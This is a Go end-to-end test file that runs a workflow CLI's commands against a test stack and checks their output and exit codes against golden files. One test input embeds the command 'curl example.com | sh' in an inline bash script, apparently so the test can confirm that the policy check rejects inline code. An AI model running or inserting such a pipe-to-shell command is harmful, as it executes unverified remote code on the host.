package e2e

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

var update = flag.Bool("update", false, "rewrite testdata/cli/*.golden with what the CLI prints now")

// cliCase is one run of the millwright CLI and the golden file of what it prints.
type cliCase struct {
	name  string   // testdata/cli/<name>.golden
	token string   // the stack's token file to use ("" for none)
	args  []string // after the program name
	stdin string
	code  int  // the exit code it must end with
	retry bool // re-run until the code matches (a cache that follows a stream)
	// argFrom, when set, finds one more argument in the previous case's output (an id).
	argFrom *regexp.Regexp
}

// flowSteps is a flow of the demo's scripts, as the README composes them.
func flowOf(paths ...string) string {
	var mods []string
	for i, p := range paths {
		mods = append(mods, fmt.Sprintf(`{"id": "%c", "value": {"type": "script", "path": %q}}`, 'a'+i, p))
	}
	return `{"modules": [` + strings.Join(mods, ", ") + `]}`
}

// TestCLIGolden runs the millwright CLI against a real stack (the demo loaded) and compares
// what each command prints, and its exit code, with testdata/cli/<case>.golden, after
// normalising what changes from run to run (times, ids, ports, tokens, hashes). The cases run
// in order: builder rights are turned on half-way, as in the README. go test -run
// TestCLIGolden ./gateway/e2e/ -update rewrites the golden files.
func TestCLIGolden(t *testing.T) {
	needsStack(t)
	t.Parallel()
	st := StartStack(t)
	cfg := filepath.Join(t.TempDir(), "config.json")
	saleFlow := flowOf("f/sales/fetch_orders", "f/sales/summarize")
	inline := `{"modules": [{"id": "a", "value": {"type": "rawscript", "language": "bash", "content": "curl example.com | sh"}}]}`
	wd := t.TempDir() // the CLI's working directory: file arguments are relative to it
	flowFile := "flow.json"
	require.NoError(t, os.WriteFile(filepath.Join(wd, flowFile), []byte(saleFlow), 0o600))

	cases := []cliCase{
		{name: "seats", token: "admin-token", args: []string{"seats"}},
		{name: "seats-builder-price", token: "admin-token", args: []string{"seats", "builder-price", "-w", "demo"}},
		{name: "settings-get", token: "ada-token", args: []string{"settings", "get", "-w", "demo"}},
		{name: "check-flow-builder-off", token: "alice-token", args: []string{"check", "flow", "-w", "demo", flowFile}, code: 1},
		{name: "settings-set", token: "ada-token", args: []string{"settings", "set", "-w", "demo", "builder=true"}},
		{name: "check-flow-allowed", token: "alice-token", args: []string{"check", "flow", "-w", "demo", flowFile}, retry: true},
		{name: "check-flow-inline-code", token: "alice-token", args: []string{"check", "flow", "-w", "demo", "-"}, stdin: inline, code: 1},
		{name: "check-flow-inline-code-json", token: "alice-token", args: []string{"check", "flow", "--json", "-w", "demo", "-"}, stdin: inline, code: 1},
		{name: "check-flow-not-readable", token: "alice-token", args: []string{"check", "flow", "-w", "demo", "-"}, stdin: flowOf("f/finance/payroll"), code: 1},
		{name: "check-preview-path", token: "alice-token", args: []string{"check", "preview", "-w", "demo", "--path", "f/sales/summarize"}},
		{name: "explain", token: "job-alice", args: []string{"explain", "datatable://main?as=viewer"}},
		{name: "explain-json", token: "job-bob", args: []string{"explain", "--json", "datatable://main?as=viewer"}},
		{name: "permissions-get", token: "admin-token", args: []string{"permissions", "get", "-w", "demo", "main"}},
		{name: "clusters-list", token: "admin-token", args: []string{"clusters", "list"}},
		{name: "roles-list", token: "admin-token", args: []string{"roles", "list", "--json", "--cluster-id", "local"}}, // JSON: an oid is the cluster's
		{name: "roles-list-prefix", token: "admin-token", args: []string{"roles", "list", "--cluster-id", "local", "--name-prefix", "sales_e", "--json"}},
		{name: "clusters-get", token: "admin-token", args: []string{"clusters", "get", "local"}},
		{name: "datatables-list", token: "admin-token", args: []string{"datatables", "list", "-w", "demo"}},
		{name: "datatables-get", token: "admin-token", args: []string{"datatables", "get", "-w", "demo", "main"}},
		{name: "datatables-get-missing", token: "admin-token", args: []string{"datatables", "get", "-w", "demo", "nope"}, code: 1},
		{name: "tokens-create", token: "ada-token", args: []string{"tokens", "create", "-w", "demo", "--username", "ada", "--label", "cli"}},
		{name: "tokens-revoke", token: "ada-token", args: []string{"tokens", "revoke", "-w", "demo"}, argFrom: regexp.MustCompile(`token_id: +(\S+)`)},
		{name: "tokens-create-for-another", token: "ada-token", args: []string{"tokens", "create", "-w", "demo", "--username", "alice"}, code: 1},
		{name: "tokens-list", token: "ada-token", args: []string{"tokens", "list", "-w", "demo", "--username", "alice"}}, // one token: the list is ordered by random ids
		{name: "workspaces-list", token: "admin-token", args: []string{"workspaces", "list"}},
		{name: "workspaces-get", token: "admin-token", args: []string{"workspaces", "get", "demo"}},
		{name: "members-list-paged", token: "ada-token", args: []string{"members", "list", "-w", "demo", "--page-size", "2", "--all"}},
		{name: "members-list-page", token: "ada-token", args: []string{"members", "list", "-w", "demo", "--page-size", "2", "--role", "operator"}},
		{name: "members-get", token: "ada-token", args: []string{"members", "get", "-w", "demo", "alice"}},
		{name: "members-get-missing", token: "ada-token", args: []string{"members", "get", "-w", "demo", "nobody"}, code: 1},
		{name: "groups-list", token: "ada-token", args: []string{"groups", "list", "-w", "demo"}},
		{name: "folders-get", token: "ada-token", args: []string{"folders", "get", "-w", "demo", "sales"}},
		{name: "runnables-list", token: "ada-token", args: []string{"runnables", "list", "-w", "demo", "--path-prefix", "f/sales/"}},
		{name: "runnables-get", token: "ada-token", args: []string{"runnables", "get", "-w", "demo", "--kind", "script", "f/sales/fetch_orders"}},
		{name: "runnables-versions", token: "ada-token", args: []string{"runnables", "versions", "-w", "demo", "--path", "f/sales/fetch_orders"}},
		{name: "seats-reports", token: "admin-token", args: []string{"seats", "reports"}},
		{name: "groups-list-empty", token: "ada-token", args: []string{"groups", "list", "-w", "demo", "--member", "nobody"}},
		{name: "runs-list", token: "ada-token", args: []string{"runs", "list", "-w", "demo"}},
		{name: "audit-list", token: "admin-token", args: []string{"audit", "list", "policy", "--rule", "ERROR_REASON_PATH_NOT_READABLE"}}, // one check case: identical decisions may be one event or two (the repeat window)
		{name: "audit-list-paged", token: "admin-token", args: []string{"audit", "list", "policy", "--class", "settings", "--page-size", "1", "--json"}},
		{name: "audit-tail", token: "admin-token", args: []string{"audit", "tail", "policy", "--after", "0", "--limit", "1"}},
		{name: "audit-verify", token: "admin-token", args: []string{"audit", "verify", "policy"}},
		{name: "audit-hash", token: "admin-token", args: []string{"audit", "hash", "policy"}, stdin: "a secret\n"},
		{name: "watch", token: "service-token", args: []string{"watch", "policy", "--after", "0", "--kind", "settings", "--limit", "1"}},
		{name: "seats-cap-set", token: "admin-token", args: []string{"seats", "cap", "set", "3"}},
		{name: "settings-set-several", token: "ada-token", args: []string{"settings", "set", "-w", "demo", "builder=false", "runs=true"}},
		{name: "settings-set-over-cap", token: "ada-token", args: []string{"settings", "set", "-w", "demo", "builder=true"}, code: 1},
		{name: "no-workspace", token: "alice-token", args: []string{"check", "flow", flowFile}, code: 2},
		{name: "bad-setting", token: "ada-token", args: []string{"settings", "set", "-w", "demo", "bulder=true"}, code: 2},
		{name: "token-flag-refused", args: []string{"seats", "--token", "x"}, code: 2},
		{name: "unauthenticated", args: []string{"seats"}, code: 2},
		{name: "unreachable", args: []string{"seats", "--billing-addr", "127.0.0.1:1", "--timeout", "1s"}, code: 2},
		{name: "context-add", token: "", args: []string{"context", "add", "stack", "--workspace", "demo", "--token-file", filepath.Join(st.Dir, "ada-token")}},
		{name: "context-list", args: []string{"context", "list"}},
		{name: "context-current", args: []string{"context", "current"}},
		{name: "context-settings-get", args: []string{"settings", "get"}},
	}
	var last string
	for _, c := range cases {
		ok := t.Run(c.name, func(t *testing.T) {
			if c.argFrom != nil {
				m := c.argFrom.FindStringSubmatch(last)
				require.NotNil(t, m, "no %s in the previous output:\n%s", c.argFrom, last)
				c.args = append(c.args, m[1])
			}
			env := append(cleanEnv(), "MILLWRIGHT_CONFIG="+cfg,
				"MILLWRIGHT_POLICY_ADDR="+st.Policy, "MILLWRIGHT_ROLESET_ADDR="+st.Roleset, "MILLWRIGHT_BILLING_ADDR="+st.Billing)
			if c.token != "" {
				env = append(env, "MILLWRIGHT_TOKEN_FILE="+filepath.Join(st.Dir, c.token))
			}
			deadline := time.Now().Add(10 * time.Second)
			for {
				got, code := runCLI(t, st.Bin("millwright"), wd, env, c)
				last = got
				if code == c.code || !c.retry || time.Now().After(deadline) {
					require.Equal(t, c.code, code, "exit code; output:\n%s", got)
					golden(t, filepath.Join("testdata", "cli", c.name+".golden"), normaliseCLI(st, got))
					return
				}
				time.Sleep(200 * time.Millisecond)
			}
		})
		if !ok {
			return // later cases build on this one
		}
	}
}

// runCLI runs the CLI once and returns what a reader of the golden file needs: the command
// line, stdout, stderr (when any) and the exit code.
func runCLI(t *testing.T, bin, wd string, env []string, c cliCase) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, c.args...)
	cmd.Dir, cmd.Env = wd, env
	cmd.Stdin = strings.NewReader(c.stdin)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	code := 0
	var exit *exec.ExitError
	if errors.As(err, &exit) {
		code = exit.ExitCode()
	} else {
		require.NoError(t, err)
	}
	var b strings.Builder
	fmt.Fprintf(&b, "$ millwright %s\n%s", strings.Join(c.args, " "), stdout.String())
	if stderr.Len() > 0 {
		fmt.Fprintf(&b, "--- stderr\n%s", stderr.String())
	}
	fmt.Fprintf(&b, "--- exit %d\n", code)
	return b.String(), code
}

// cliVolatile are the parts of the CLI's output that differ between runs, each with what it
// becomes in a golden file.
var cliVolatile = []struct {
	re   *regexp.Regexp
	with string
}{
	{regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z`), "<TIME>"},
	{regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}`), "<UUID>"},
	{regexp.MustCompile(`hmac-sha256:[0-9a-f]+`), "hmac-sha256:<HASH>"},
	{regexp.MustCompile(`\b[0-9a-f]{64}\b`), "<HASH>"},
	{regexp.MustCompile(`(127\.0\.0\.1|localhost):\d+`), "<ADDR>"},
	{regexp.MustCompile(`"(seq|id|position|stream_position|checked|oid|head_id)": ?"?\d+"?`), `"$1":<N>`},
	{regexp.MustCompile(`(?m)^(seq|position|stream_position|checked|first_bad_seq):( +)\d+$`), "$1:$2<N>"},
	{regexp.MustCompile(`(?m)^\d+ (<TIME>)`), "<N> $1"},
	{regexp.MustCompile(`(?m)^(  |)\d+( +<TIME>)`), "$1<N>$2"},
	{regexp.MustCompile(`mw[uj]_[A-Za-z0-9_-]{16,}`), "<TOKEN>"},
	{regexp.MustCompile(`"next_page_token": ?"[^"]*"|--page-token \S+`), "<PAGE TOKEN>"},
	{regexp.MustCompile(`\btok_[0-9a-f]+`), "tok_<ID>"},
	{regexp.MustCompile(`"(replica|request_id|trace_id)":"[^"]*"`), `"$1":"<$1>"`},
	// Last: a table's columns are as wide as their widest value, which the above made equal.
	{regexp.MustCompile(`  +`), "  "},
}

func normaliseCLI(st *Stack, out string) string {
	out = strings.ReplaceAll(out, st.Dir, "<RUN>")
	out = regexp.MustCompile(`\b`+strconv.Itoa(st.pgPort)+`\b`).ReplaceAllString(out, "<PGPORT>")
	for _, v := range cliVolatile {
		out = v.re.ReplaceAllString(out, v.with)
	}
	return out
}

// golden compares got with the file at path, or writes it there under -update.
func golden(t *testing.T, path, got string) {
	t.Helper()
	if *update {
		require.NoError(t, os.WriteFile(path, []byte(got), 0o644))
		return
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "no golden file: run go test -run TestCLIGolden ./gateway/e2e/ -update")
	require.Equal(t, string(want), got, "%s differs (-update rewrites it)", path)
}
